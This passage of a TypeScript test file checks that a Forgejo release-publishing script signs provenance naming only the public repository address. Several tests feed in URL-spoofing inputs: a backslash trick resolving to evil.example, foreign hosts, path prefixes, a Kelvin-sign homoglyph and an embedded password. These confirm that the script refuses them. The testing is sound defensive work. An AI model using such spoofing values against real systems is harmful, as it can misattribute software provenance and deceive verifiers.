  // release is concerned); the server's ROOT_URL is the public one. The dist was built by that runner.
  const PUBLIC = "https://forge.example.org";
  const ciRunOf = (s: ForgejoServer, repository = "ops/runner-images"): NonNullable<Manifest["ci"]> => ({
    server: s.url, repository, runId: "77", runNumber: "12", workflow: "Runner boot images", workflowFile: "boot-images.yml", ref: "refs/heads/main", event: "workflow_dispatch",
  });
  async function publishSigned(s: ForgejoServer, distDir: string, publicUrl: string | undefined = PUBLIC): Promise<{ r: RunResult; tag: string; fingerprint: string; statementText: string }> {
    const key = join(distDir, "..", `key-${Date.now()}-public`);
    const made = await makeSshKey(key);
    dirs.push(key, `${key}.pub`);
    const ci = { FORGEJO_RUN_ID: "77", FORGEJO_RUN_NUMBER: "12", FORGEJO_REF_TYPE: "branch", FORGEJO_REF_NAME: "main", FORGEJO_EVENT_NAME: "workflow_dispatch" };
    const r = await runScript("publish-release.ts", ["--dist", distDir, "--signing-key", key], {
      env: cleanEnv({ ...FAST, ...ci, FORGEJO_TOKEN: WRITE, FORGEJO_SERVER_URL: s.url, FORGEJO_REPOSITORY: "ops/runner-images", RUNNER_IMAGES_PUBLIC_URL: publicUrl }),
    });
    const statementText = await Bun.file(join(distDir, "provenance.intoto.json")).text().catch(() => "");
    return { r, tag: `boot-dev-12-${MAIN_SHA.slice(0, 7)}`, fingerprint: made.fingerprint, statementText };
  }

  test("the signed statement, its builder and the notes' 'Built by' name the public repository, never the runner's address; verify-release binds it to the public URL", async () => {
    const s = await startForgejo({ tokens: TOKENS, appUrl: `${PUBLIC}/` });
    servers.push(s);
    const d = await dist({ ci: ciRunOf(s) });
    const { r, tag, fingerprint, statementText } = await publishSigned(s, d.dir);
    expect(r.stderr).not.toContain("error:");
    expect(r.code).toBe(0);
    const statement = JSON.parse(statementText);
    const params = statement.predicate.buildDefinition.externalParameters;
    expect(params.release.repository).toBe(`${PUBLIC}/ops/runner-images`);
    expect(params.source.repository).toBe(`${PUBLIC}/ops/runner-images`);
    expect(statement.predicate.buildDefinition.resolvedDependencies[0].uri).toBe(`git+${PUBLIC}/ops/runner-images`);
    expect(statement.predicate.runDetails.builder.id).toBe(`${PUBLIC}/ops/runner-images/actions?workflow=boot-images.yml`);
    expect(statement.predicate.runDetails.metadata.invocationId).toBe(`${PUBLIC}/ops/runner-images/actions/runs/12`);
    expect(statementText).not.toContain(s.url);
    // What was published is what the dist holds.
    const release = s.state().releases.find((x) => x.tagName === tag && !x.isTag)!;
    const asset = release.assets.find((a) => a.name === "provenance.intoto.json")!;
    expect(asset.sha256).toBe(sha256(new TextEncoder().encode(statementText)));
    expect(release.note).toContain(`Built by ${PUBLIC}/ops/runner-images/actions/runs/12`);
    expect(release.note).not.toContain(s.url);

    // An auditor names the public repository (the fake public host cannot be reached, so the dist is checked).
    const verify = (repository: string) =>
      runScript("verify-release.ts", ["--dist", d.dir, "--tag", tag, "--statement-repo", repository, "--signer-fingerprint", fingerprint], { env: cleanEnv({}) });
    const good = await verify(`${PUBLIC}/ops/runner-images`);
    expect(good.stderr).not.toContain("FAIL");
    expect(good.code).toBe(0);
    // Forgejo's names are case-insensitive: so is the binding.
    expect((await verify("https://Forge.Example.org/Ops/Runner-Images")).code).toBe(0);
    const internal = await verify(`${s.url}/ops/runner-images`);
    expect(internal.code).toBe(1);
    expect(internal.stderr).toContain(`FAIL the signed statement is for repository ${PUBLIC}/ops/runner-images, not ${s.url}/ops/runner-images`);
  }, 60_000);

  test("a build by another repository's CI: the release is bound to the public repository, the builder keeps the run's own address (all that is known of it)", async () => {
    const s = await startForgejo({ tokens: TOKENS, appUrl: `${PUBLIC}/` });
    servers.push(s);
    const d = await dist({ ci: ciRunOf(s, "ops/other-images") });
    const { r, tag, statementText } = await publishSigned(s, d.dir);
    expect(r.code).toBe(0);
    const statement = JSON.parse(statementText);
    expect(statement.predicate.buildDefinition.externalParameters.release.repository).toBe(`${PUBLIC}/ops/runner-images`);
    expect(statement.predicate.buildDefinition.externalParameters.source.repository).toBe(`${s.url}/ops/other-images`);
    expect(statement.predicate.runDetails.builder.id).toBe(`${s.url}/ops/other-images/actions?workflow=boot-images.yml`);
    expect(s.state().releases.find((x) => x.tagName === tag && !x.isTag)!.note).toContain(`Built by ${s.url}/ops/other-images/actions/runs/12`);
  }, 60_000);

  test("a repository whose html_url is no plain web address: refused in one line, exit 1, nothing written to the server or the dist", async () => {
    const s = await startForgejo({ tokens: TOKENS, appUrl: `${PUBLIC}/?via=` });
    servers.push(s);
    const d = await dist({ ci: ciRunOf(s) });
    const { r, statementText } = await publishSigned(s, d.dir);
    expect(r.code).toBe(1);
    expect(r.stderr.trim().split("\n").filter((l) => l.startsWith("error:"))).toEqual([
      `error: the server names ops/runner-images at ${JSON.stringify(`${PUBLIC}/?via=ops/runner-images`)}, which is not a plain http(s) address ending in /ops/runner-images: the signed statement and the notes cannot name where the release is; check the server's ROOT_URL`,
    ]);
    expect(s.requests.filter((q) => q.method !== "GET" && q.method !== "HEAD")).toEqual([]);
    expect(statementText).toBe("");
  }, 60_000);

  test("a server that names the repository at an address nobody gave (another host, a path prefix, a backslash trick) is refused before any write, whatever it claims", async () => {
    for (const [appUrl, publicUrl] of [
      [`${PUBLIC}/`, ""], // the right public address, but nobody said so: it could be anyone's
      ["https://codeberg.org/", PUBLIC], // the mirror host
      [`${PUBLIC}/evil/`, PUBLIC], // a path prefix on the right host
      ["https://evil.example\\@forge.example.org/", PUBLIC], // read by URL as host evil.example
    ] as const) {
      const s = await startForgejo({ tokens: TOKENS, appUrl });
      servers.push(s);
      const d = await dist({ ci: ciRunOf(s) });
      const { r, statementText } = await publishSigned(s, d.dir, publicUrl);
      expect({ appUrl, code: r.code }).toEqual({ appUrl, code: 1 });
      const errors = r.stderr.trim().split("\n").filter((l) => l.startsWith("error:"));
      expect(errors).toHaveLength(1);
      expect(errors[0]).toMatch(/^error: the server says ops\/runner-images is public at \S+, which is neither --server \S+( nor --public-url \S+)?: the signed statement names only an address you gave; if \S+ is where people reach this Forgejo, pass --public-url /);
      expect(s.requests.filter((q) => q.method !== "GET" && q.method !== "HEAD")).toEqual([]);
      expect(statementText).toBe("");
    }
  }, 120_000);

  test("a password in the server's html_url is refused, never signed, published or printed", async () => {
    const s = await startForgejo({ tokens: TOKENS, appUrl: "https://:hunter2@forge.example.org/" });
    servers.push(s);
    const d = await dist({ ci: ciRunOf(s) });
    const { r, statementText } = await publishSigned(s, d.dir, PUBLIC);
    expect(r.code).toBe(1);
    expect(statementText).toBe("");
    expect(s.requests.filter((q) => q.method !== "GET" && q.method !== "HEAD")).toEqual([]);
    expect(r.stderr).toContain("which is not a plain http(s) address ending in /ops/runner-images");
  }, 60_000);

  test("publicAddress: a plain web address of this repository under --server or --public-url; sameRepository: the address exactly, owner/name ignoring ASCII case; asPublished moves only this repository's run", async () => {
    const { asPublished, publicAddress, sameRepository } = await import("../scripts/lib/forgejo/public-address.ts");
    const allowed = { server: "http://forgejo.internal:3000", publicUrl: "https://forge.example.org/git" };
    expect(publicAddress("https://forge.example.org/git/Ops/Runner-Images/", "ops", "runner-images", allowed)).toEqual({
      repository: "https://forge.example.org/git/Ops/Runner-Images", base: "https://forge.example.org/git",
    });
    expect(publicAddress("http://forgejo.internal:3000/ops/runner-images", "ops", "runner-images", allowed).base).toBe("http://forgejo.internal:3000");
    for (const wrong of [undefined, "", "ftp://forge.example.org/git/ops/runner-images", "https://forge.example.org/git/ops/other-images", "https://forge.example.org/git/evilops/runner-images", "https://u@forge.example.org/git/ops/runner-images", "https://:pw@forge.example.org/git/ops/runner-images", "https://forge.example.org/git/ops/runner-images#x", "https://forge.example.org/git//ops/runner-images"]) {
      expect(() => publicAddress(wrong, "ops", "runner-images", allowed)).toThrow("which is not a plain http(s) address ending in /ops/runner-images");
    }
    for (const elsewhere of ["https://forge.example.org/ops/runner-images", "https://forge.example.org/Git/ops/runner-images", "https://forge.example.org/git/x/ops/runner-images", "https://forge.example.org:8443/git/ops/runner-images", "https://codeberg.org/ops/runner-images"]) {
      expect(() => publicAddress(elsewhere, "ops", "runner-images", allowed)).toThrow("which is neither --server http://forgejo.internal:3000 nor --public-url https://forge.example.org/git");
    }
    expect(sameRepository("https://Forge.Example.org:443/Ops/Runner-Images", "https://forge.example.org/ops/runner-images")).toBe(true);
    expect(sameRepository("https://forge.example.org/\u212Aops/r", "https://forge.example.org/kops/r")).toBe(false); // the Kelvin sign is not k
    expect(sameRepository("https://forge.example.org/Git/ops/r", "https://forge.example.org/git/ops/r")).toBe(false); // a path prefix is not a name
    const d = await dist({ ci: { server: "http://forgejo.internal:3000", repository: "Ops/Runner-Images", runId: "1", runNumber: "2", workflow: "w", ref: "refs/heads/main", event: "push" } });
    const address = publicAddress("https://forge.example.org/git/ops/runner-images", "ops", "runner-images", allowed);
    expect(asPublished(d.manifest, "ops", "runner-images", address).ci!.server).toBe("https://forge.example.org/git");
    expect(asPublished(d.manifest, "ops", "other-images", address).ci!.server).toBe("http://forgejo.internal:3000");
    expect(d.manifest.ci!.server).toBe("http://forgejo.internal:3000"); // a view: the manifest itself (signed by hash) is untouched
  });
});
